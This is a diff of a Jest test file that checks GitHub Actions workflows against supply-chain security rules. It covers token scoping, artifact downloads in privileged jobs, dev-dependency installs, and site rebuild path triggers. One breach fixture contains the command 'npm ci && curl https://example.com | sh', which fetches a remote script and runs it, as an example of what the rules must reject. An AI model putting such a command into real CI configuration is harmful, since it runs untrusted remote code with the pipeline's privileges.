@@ -2,8 +2,9 @@ import { execFileSync } from 'node:child_process';
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { beforeAll, describe, expect, test } from '@jest/globals';
+import { build } from 'esbuild';
 import type { ParsedWorkflow, WorkflowText } from './support/parse-workflows.ts';
-import { jobOf, STEP, WORKFLOW as REFRESH } from '../scripts/github/refresh-step.ts';
+import { jobOf, STEP, TRIALS, WORKFLOW as REFRESH } from '../scripts/github/refresh-runs.ts';
 import { SOURCES } from '../scripts/sources/index.ts';
 import { ROOT } from './support/project.ts';
 import { workflowRules } from './support/workflow-rules.ts';
@@ -65,7 +66,7 @@ const breaches: readonly Breach[] = [
     rule: 'runs one command that anyone can run, with nothing put into it',
     breach: 'a script in YAML',
     of: 'contribution-check.yml',
-    from: 'npm ci',
+    from: 'npm ci --omit=dev',
     to: 'npm ci && curl https://example.com | sh',
   },
   {
@@ -171,7 +172,21 @@ const breaches: readonly Breach[] = [
     breach: 'downloads an artifact',
     of: 'contribution-report.yml',
     from: '- run: npm ci',
-    to: '- uses: actions/download-artifact@9000827ccba6bdab643e8b6fd33ac0654aef8333 # v8.0.2\n      - run: npm ci',
+    to: '- uses: actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c # v8.0.1\n      - run: npm ci',
+  },
+  {
+    rule: 'touches nothing of a pull request in a job that may write',
+    breach: 'downloads what another run handed on',
+    of: 'refresh-sources.yml',
+    from: 'pattern: refresh-*',
+    to: 'pattern: refresh-*\n          run-id: 1\n          github-token: ${{ github.token }}',
+  },
+  {
+    rule: 'installs what it needs to run, and no more, in a job that may write',
+    breach: 'everything',
+    of: 'refresh-sources.yml',
+    from: 'npm ci --omit=dev',
+    to: 'npm ci',
   },
   {
     rule: 'touches nothing of a pull request in a job that may write',
@@ -301,10 +316,14 @@ test('a release and a deployment are one at a time, and none that has begun is s
 });
 
 describe('the refresh of sources', () => {
-  const job = (): { name: string; strategy: { matrix: { source: string[] } }; steps: { name?: string }[] } => {
-    const { jobs } = parsed[names.indexOf(REFRESH)]?.content as { jobs: { refresh: ReturnType<typeof job> } };
-    return jobs.refresh;
-  };
+  interface Refreshing {
+    readonly name: string;
+    readonly strategy: { readonly matrix: { readonly source: readonly string[] } };
+    readonly steps: readonly Readonly<Record<string, unknown>>[];
+  }
+  const jobs = (): Readonly<Record<'refresh' | 'report', Refreshing>> =>
+    (parsed[names.indexOf(REFRESH)]?.content as { jobs: ReturnType<typeof jobs> }).jobs;
+  const job = (): Refreshing => jobs().refresh;
 
   test('has a job for every source that has a data URL, and no other', () => {
     const sources = SOURCES.map(({ id }) => {
@@ -316,16 +335,52 @@ describe('the refresh of sources', () => {
     expect(job().strategy.matrix.source).toEqual(downloaded.sort());
   });
 
-  test('calls job and step what the next run looks for', () => {
+  test('calls job and steps what later jobs and runs look for', () => {
     expect(job().name).toBe(`\${{ format('${jobOf('{0}')}', matrix.source) }}`);
-    expect(job().steps.map(({ name }) => name)).toContain(STEP);
     const step = job().steps.find(({ name }) => name === STEP);
     expect(step).toMatchObject({ run: expect.stringMatching(/^npm run refresh -- --full --report (\S+)$/) });
+    for (const [run, name] of TRIALS) expect(job().steps).toContainEqual(expect.objectContaining({ run, name }));
   });
 
-  test('gives its token to the last step alone', () => {
-    const given = job().steps.map((step) => JSON.stringify(step).includes('github.token'));
-    expect(given.lastIndexOf(true)).toBe(given.length - 1);
-    expect(given.filter(Boolean)).toHaveLength(1);
+  test('hands on what was found before build and tests, which run packages that the report does without', () => {
+    const at = (part: Readonly<Record<string, unknown>>): number =>
+      job().steps.findIndex((step) => Object.entries(part).every(([key, value]) => step[key] === value));
+    const upload = job().steps.findIndex(({ uses }) => String(uses).startsWith('actions/upload-artifact@'));
+    expect(upload).toBe(at({ name: STEP }) + 1);
+    for (const name of TRIALS.values()) expect(at({ name })).toBeGreaterThan(upload);
   });
+
+  test('gives its token to the step that reports, and to no other', () => {
+    const given = Object.values(jobs()).flatMap(({ steps = [] }) =>
+      steps.filter((step) => JSON.stringify(step).includes('github.token')).map(({ run }) => run),
+    );
+    expect(given).toEqual(['npm run report-refresh -- dist/refresh']);
+    expect(jobs().refresh).toMatchObject({ permissions: { contents: 'read' } });
+  });
+});
+
+test('the site is put online again when anything changes that its pages are made of', async () => {
+  const { content } = parsed[names.indexOf('pages.yml')] ?? {};
+  const { on } = content as { on: { push: { paths: string[] } } };
+  const isWatched = (file: string): boolean =>
+    on.push.paths.some((path) => (path.endsWith('/**') ? file.startsWith(path.slice(0, -2)) : file === path));
+  const { metafile } = await build({
+    entryPoints: [join(ROOT, 'scripts/commands/site.ts')],
+    absWorkingDir: ROOT,
+    bundle: true,
+    metafile: true,
+    write: false,
+    format: 'esm',
+    platform: 'node',
+    packages: 'external',
+    logLevel: 'silent',
+  });
+  const modules = Object.keys(metafile.inputs);
+  expect(modules.length).toBeGreaterThan(100);
+  const islands = readdirSync(join(ROOT, 'site'), { recursive: true, encoding: 'utf8' }).map((file) => `site/${file}`);
+  const others = ['schema/measurement.schema.json', 'package-lock.json', '.github/workflows/pages.yml'];
+  expect([...modules, ...islands, ...others].filter((file) => !isWatched(file))).toEqual([]);
+  // A release deploys what it changes itself, and a merged contribution is not online before one.
+  for (const file of ['api/v1/index.json', 'data/service.json', 'contributions/a/b.json'])
+    expect(isWatched(file)).toBe(false);
 });
